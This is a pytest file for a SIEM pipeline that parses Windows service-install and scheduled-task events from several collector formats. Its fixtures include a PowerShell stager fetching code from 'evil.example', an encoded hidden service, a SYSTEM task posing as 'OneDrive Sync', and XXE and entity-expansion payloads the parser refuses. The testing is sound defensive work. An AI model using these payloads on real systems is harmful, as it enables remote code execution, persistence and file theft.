"""Service installs (System 7045, Security 4697) and scheduled tasks (Security 4698, 4702) as events.

Each record goes through the real pipeline into a journal and an embedded store
(:class:`tests.ingest.parsers.test_windows_variants.Ingested`), in the shapes a
collector writes (Winlogbeat 8 with its ECS fields, NXLog, evtx_dump JSON, a
Sentinel ``SecurityEvent``/``Event`` row).  The fixtures are made here, after
the event layouts of Microsoft's 4697/4698/4702 pages and the System 7045
records of the OTRF Security-Datasets.
"""

from __future__ import annotations

import base64
import html
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graphsiem.store.embedded import EmbeddedStore
from ingest.journal import Journal
from ingest.parsers.base import ParseContext
from ingest.parsers.task_definitions import TASK_CONTENT_CHARS, TaskContentError, parse_task_content
from ingest.parsers.windows_kv import parse_text
from ingest.parsers.windows_persistence import (
    SERVICE_KIND,
    TASK_CREATED_KIND,
    TASK_UPDATED_KIND,
    command_line_of,
    put_task,
)
from ingest.pipeline import ingest_paths
from tests.ingest.parsers.test_windows_variants import _winlogbeat, ingest_into

STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
ENCODED = base64.b64encode(STAGER.encode("utf-16-le")).decode()
CMD = "C:\\Windows\\system32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SERVICE_COMMAND = f"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc {ENCODED}"
SERVICE_LINE = f"{CMD} /b /c start /b /min powershell -nop -w hidden -enc {ENCODED}"
SERVICE_7045 = {"ServiceName": "wvbnmkqa", "ImagePath": SERVICE_COMMAND, "ServiceType": "user mode service",
                "StartType": "demand start", "AccountName": "LocalSystem"}
SERVICE_4697 = {"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "adm-jdoe", "SubjectDomainName": "CORP",
                "SubjectLogonId": "0x3e7a1f", "ServiceName": "PSEXESVC", "ServiceFileName": "%SystemRoot%\\PSEXESVC.exe",
                "ServiceType": "0x10", "ServiceStartType": "3", "ServiceAccount": "LocalSystem"}
TASK_XML = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2024-03-05T10:14:02</Date><Author>CORP\\adm-jdoe</Author><URI>\\OneDrive Sync</URI></RegistrationInfo>
  <Triggers><TimeTrigger><StartBoundary>2024-03-05T10:20:00</StartBoundary><Enabled>true</Enabled></TimeTrigger>
    <LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>
  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author">
    <Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -enc {ENCODED}</Arguments></Exec>
    <Exec><Command>%windir%\\system32\\cmd.exe</Command><Arguments>/c whoami</Arguments></Exec>
  </Actions>
</Task>"""
TASK_4698 = {"SubjectUserSid": "S-1-5-21-1-2-3-1104", "SubjectUserName": "adm-jdoe", "SubjectDomainName": "CORP",
             "SubjectLogonId": "0x3e7a1f", "TaskName": "\\OneDrive Sync", "TaskContent": TASK_XML}
TASK_LINE = f"powershell.exe -nop -w hidden -enc {ENCODED}"


def _nxlog(event_id: int, channel: str, data: dict[str, Any]) -> dict[str, Any]:
    return {"EventTime": "2024-03-05 10:16:00", "Hostname": "WS-0043.corp.example.com", "EventID": event_id,
            "SourceName": "Service Control Manager", "Channel": channel, "Severity": "INFO",
            "EventReceivedTime": "2024-03-05 10:16:01", "SourceModuleName": "eventlog",
            "SourceModuleType": "im_msvistalog", **data}


def _evtx(event_id: int, channel: str, data: dict[str, Any]) -> dict[str, Any]:
    return {"Event": {"System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}},
                                 "EventID": event_id, "Channel": channel, "Computer": "WS-0044.corp.example.com",
                                 "TimeCreated": {"#attributes": {"SystemTime": "2024-03-05T10:17:00.000000Z"}}},
                      "EventData": data}}


def _sentinel_4697() -> dict[str, Any]:
    """A ``SecurityEvent`` row: 4697's data in columns of their own (as the Log Analytics schema has them)."""
    return {"TimeGenerated": "2024-03-05T10:18:00Z", "Computer": "WS-0045.corp.example.com", "EventID": 4697,
            "Type": "SecurityEvent", "Activity": "4697 - A service was installed in the system.",
            "Account": "CORP\\adm-jdoe", **SERVICE_4697}


def _sentinel_7045() -> dict[str, Any]:
    """An ``Event`` table row: the System event's data packed in ``EventData`` XML."""
    data = "".join(f'<Data Name="{key}">{value}</Data>' for key, value in SERVICE_7045.items())
    return {"TimeGenerated": "2024-03-05T10:19:00Z", "Computer": "WS-0046.corp.example.com", "EventID": 7045,
            "EventLog": "System", "Source": "Service Control Manager", "Type": "Event",
            "EventData": f'<DataItem type="System.XmlData" time="x" sourceHealthServiceId="y">'
                         f'<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event">{data}</EventData>'
                         f"</DataItem>"}


def _winlogbeat8(event_id: int, data: dict[str, Any], channel: str) -> dict[str, Any]:
    """Winlogbeat 8's security module: the event data kept, with ECS fields beside it."""
    return _winlogbeat(event_id, data, channel=channel,
                       event={"code": str(event_id), "provider": "Microsoft-Windows-Security-Auditing",
                              "action": "service-installed" if event_id == 4697 else "scheduled-task-created"},
                       service={"name": data.get("ServiceName")}, user={"name": data.get("SubjectUserName")})


@pytest.fixture
def ingest(tmp_path):
    yield from ingest_into(tmp_path)


# -- System 7045 --------------------------------------------------------------------------------


def test_7045_in_every_shape_is_a_service_install_with_its_command(ingest) -> None:
    got = ingest(_winlogbeat(7045, SERVICE_7045, channel="System"), _nxlog(7045, "System", SERVICE_7045),
                 _evtx(7045, "System", SERVICE_7045), _sentinel_7045())
    assert [event.kind for event in got.events] == [SERVICE_KIND] * 4
    for event in got.events:
        assert event.fields["service.name"] == "wvbnmkqa"
        assert event.fields["service.start_type"] == "demand start"
        # %COMSPEC% is what the Service Control Manager expands: the command Sysmon 1 sees
        assert event.fields["process.executable"] == CMD
        assert event.fields["process.command_line"] == SERVICE_LINE
        assert event.fields["process.command_line_decoded"] == STAGER
    # NXLog's envelope has an AccountName of its own: the flat record holds the service's here
    assert {event.fields.get("user.name") for event in got.events} == {"nt authority\\system"}


def test_7045_without_an_image_path_is_still_a_service_install(ingest) -> None:
    got = ingest(_winlogbeat(7045, {"ServiceName": "x", "ImagePath": "-"}, channel="System"))
    [event] = got.events
    assert event.kind == SERVICE_KIND and event.fields["service.name"] == "x"
    assert "process.command_line" not in event.fields
    assert got.edges("INSTALLED") == set()


def test_7045_of_a_driver_is_a_file_under_the_windows_folder(ingest) -> None:
    data = {"ServiceName": "evil", "ImagePath": "\\SystemRoot\\System32\\drivers\\evil.sys",
            "ServiceType": "kernel mode driver", "StartType": "boot start", "AccountName": ""}
    got = ingest(_winlogbeat(7045, data, channel="System"))
    [event] = got.events
    # the kernel loads a driver, nothing runs it: a file, no process (tests/ingest/test_driver_installs.py)
    assert event.fields["file.path"] == "C:\\Windows\\System32\\drivers\\evil.sys"
    assert event.fields["file.name"] == "evil.sys"
    assert "process.executable" not in event.fields
    assert "user.name" not in event.fields


# -- Security 4697 ------------------------------------------------------------------------------


def test_4697_in_winlogbeat8_and_sentinel_names_service_account_and_installer(ingest) -> None:
    got = ingest(_winlogbeat8(4697, SERVICE_4697, channel="Security"), _sentinel_4697())
    for event in got.events:
        assert event.kind == SERVICE_KIND
        assert event.fields["service.name"] == "PSEXESVC"
        # 4697's numbers in 7045's words: one vocabulary for both
        assert event.fields["service.type"] == "user mode service"
        assert event.fields["service.start_type"] == "demand start"
        assert event.fields["process.executable"] == "C:\\Windows\\PSEXESVC.exe"
        assert event.fields["user.name"] == "nt authority\\system"
        assert event.fields["subject.user.name"] == "corp\\adm-jdoe"


# -- Security 4698 / 4702 -----------------------------------------------------------------------


def test_4698_reads_actions_principal_and_triggers_of_the_task_xml(ingest) -> None:
    got = ingest(_winlogbeat(4698, TASK_4698, channel="Security"))
    [event] = got.events
    fields = event.fields
    assert event.kind == TASK_CREATED_KIND
    assert fields["task.name"] == "\\OneDrive Sync"
    # a bare system binary is where Windows finds it; a task's command line is what the Task Scheduler passes
    assert fields["process.executable"] == POWERSHELL
    assert fields["process.command_line"] == TASK_LINE
    assert fields["process.command_line_decoded"] == STAGER
    assert fields["task.executables"] == [POWERSHELL, CMD]
    assert fields["task.command_lines"] == [TASK_LINE, f"{CMD} /c whoami"]
    assert fields["user.name"] == "nt authority\\system"
    assert fields["task.triggers"] == ["TimeTrigger", "LogonTrigger"]
    assert fields["task.author"] == "CORP\\adm-jdoe" and fields["task.hidden"] is True
    assert fields["subject.user.name"] == "corp\\adm-jdoe"


def test_4702_reads_the_definition_after_the_update(ingest) -> None:
    data = {k: v for k, v in TASK_4698.items() if k != "TaskContent"} | {"TaskContentNew": TASK_XML}
    got = ingest(_winlogbeat(4702, data, channel="Security"), _nxlog(4702, "Security", data))
    for event in got.events:
        assert event.kind == TASK_UPDATED_KIND
        assert event.fields["task.command_lines"][0] == TASK_LINE


def test_4698_in_a_sentinel_row_without_channel(ingest) -> None:
    row = {"TimeGenerated": "2024-03-05T10:18:00Z", "Computer": "WS-0045", "EventID": 4698, **TASK_4698}
    got = ingest(row)
    [event] = got.events
    assert event.kind == TASK_CREATED_KIND and event.fields["process.command_line"] == TASK_LINE


def test_a_task_command_with_a_space_is_quoted_as_the_task_scheduler_passes_it() -> None:
    assert command_line_of("%ProgramFiles%\\Vendor Tool\\updater.exe", "/silent") == (
        "C:\\Program Files\\Vendor Tool\\updater.exe", '"C:\\Program Files\\Vendor Tool\\updater.exe" /silent')
    # an unquoted service path with spaces: Windows' reading, up to the .exe
    assert command_line_of("C:\\Program Files\\Vendor Tool\\svc.exe -k run")[0] == (
        "C:\\Program Files\\Vendor Tool\\svc.exe")


# -- hostile task definitions -------------------------------------------------------------------

HOSTILE = {
    "a DTD with entities": '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                           "<Task><Actions><Exec><Command>&b;</Command></Exec></Actions></Task>",
    "an external entity": '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                          "<Task><Actions><Exec><Command>&x;</Command></Exec></Actions></Task>",
    "too deep": "<Task>" + "<a>" * 200 + "</a>" * 200 + "</Task>",
    "too long": "<Task>" + " " * TASK_CONTENT_CHARS + "</Task>",
    "too many elements": "<Task>" + "<a/>" * 5000 + "</Task>",
    "not well formed": "<Task><Actions><Exec>",
    "neither XML nor JSON": "cmd.exe /c whoami",
    "JSON that is no object": "[1, 2]",
}
REASONS = {"a DTD with entities": "refused: DTDForbidden", "an external entity": "refused: DTDForbidden",
           "too deep": "nested deeper than 16", "too long": "longer than 65536 characters",
           "too many elements": "more than 4096 elements", "not well formed": "not well formed",
           "neither XML nor JSON": "neither XML nor JSON", "JSON that is no object": "is not an object"}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_task_content_is_refused_with_its_reason(name: str) -> None:
    with pytest.raises(TaskContentError, match=REASONS[name]):
        parse_task_content(HOSTILE[name])


def test_a_refused_task_definition_keeps_the_event_and_its_name(ingest) -> None:
    data = TASK_4698 | {"TaskContent": HOSTILE["an external entity"]}
    got = ingest(_winlogbeat(4698, data, channel="Security"))
    [event] = got.events
    assert event.kind == TASK_CREATED_KIND and event.fields["task.name"] == "\\OneDrive Sync"
    assert event.fields["task.content_error"] == "task XML refused: DTDForbidden"
    assert "process.command_line" not in event.fields
    assert got.edges("INSTALLED") == set()


def test_task_actions_are_bounded() -> None:
    actions = "".join(f"<Exec><Command>a{i}.exe</Command></Exec>" for i in range(40))
    task = parse_task_content(f"<Task><Actions>{actions}</Actions></Task>")
    assert len(task.actions) == 32 and task.actions[0] == ("a0.exe", "") and task.actions_dropped == 8


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(
    st.text(max_size=300),
    st.text(alphabet="<>/ TaskActionsExecCommandArguments!DOCTYPE[]&;\"'=?{}:,", max_size=300),
    st.recursive(st.none() | st.booleans() | st.integers() | st.text(max_size=20),
                 lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
                     st.sampled_from(["Actions", "Exec", "Command", "Arguments", "Principals", "Principal",
                                      "UserId", "Triggers", "Task", "Settings", "Hidden", "x"]), inner, max_size=4),
                 max_leaves=20),
))
def test_any_task_content_gives_fields_or_a_reason_never_an_exception(content: object) -> None:
    fields: dict[str, Any] = {}
    assert put_task(fields, name="t", content=content) == TASK_CREATED_KIND
    assert fields["task.name"] == "t"
    lines = fields.get("task.command_lines", [])
    assert all(isinstance(line, str) for line in lines)
    assert not ("task.content_error" in fields and lines)


# -- the same events as Windows event XML and as classic text (Splunk WinEventLog) ----------------


def test_4698_as_windows_event_xml_through_the_pipeline(tmp_path) -> None:
    """``wevtutil``/forwarded XML: TaskContent is escaped XML inside ``<Data>``, read back as the task XML."""
    data = "".join(f"<Data Name='{key}'>{html.escape(value)}</Data>" for key, value in TASK_4698.items())
    path = tmp_path / "events.xml"
    path.write_text("<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
                    "<Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4698</EventID>"
                    "<TimeCreated SystemTime='2024-03-05T10:14:02.1234567Z'/><EventRecordID>7</EventRecordID>"
                    "<Channel>Security</Channel><Computer>WS-0042.corp.example.com</Computer></System>"
                    f"<EventData>{data}</EventData></Event>", encoding="utf-8")
    with EmbeddedStore(tmp_path / "graph") as store, Journal(tmp_path / "journal.sqlite") as journal:
        report = ingest_paths([path], store=store, journal=journal, progress=False)
        [event] = [item.event for item in journal.iter_events()]
        assert report.total.accepted == 1
        assert event.kind == TASK_CREATED_KIND and event.fields["task.command_lines"][0] == TASK_LINE
        assert len(list(store.iter_relations("INSTALLED"))) == 2


_KV_HEADER = ("03/05/2024 10:16:00 AM\nLogName={channel}\nEventCode={code}\nEventType=4\n"
              "ComputerName=WS-0042.corp.example.com\nSourceName=x\nType=Information\nRecordNumber=12\n"
              "Keywords=Classic\nTaskCategory=None\nOpCode=Info\n")


def test_7045_and_4698_as_classic_text_read_their_labels() -> None:
    """The text's labels are 4697's names for 7045 ("Service File Name"), and the task XML spans lines."""
    service = parse_text(_KV_HEADER.format(channel="System", code=7045)
                         + f"Message=A service was installed in the system.\n\nService Name:  wvbnmkqa\n"
                         f"Service File Name:  {SERVICE_COMMAND}\nService Type:  user mode service\n"
                         "Service Start Type:  demand start\nService Account:  LocalSystem", ParseContext(origin="t"))
    assert service.kind == SERVICE_KIND
    assert service.fields["process.command_line"] == SERVICE_LINE
    assert service.fields["user.name"] == "nt authority\\system"
    assert service.fields["service.start_type"] == "demand start"
    task = parse_text(_KV_HEADER.format(channel="Security", code=4698)
                      + "Message=A scheduled task was created.\n\nSubject:\n\tAccount Name:\t\tadm-jdoe\n"
                      "\tAccount Domain:\t\tCORP\n\nTask Information:\n\tTask Name: \t\t\\OneDrive Sync\n"
                      "\tTask Content: \t\t" + TASK_XML.replace("\n", "\n\t"), ParseContext(origin="t"))
    assert task.kind == TASK_CREATED_KIND
    assert task.fields["task.name"] == "\\OneDrive Sync"
    assert task.fields["task.command_lines"] == [TASK_LINE, f"{CMD} /c whoami"]
    assert task.fields["subject.user.name"] == "corp\\adm-jdoe"
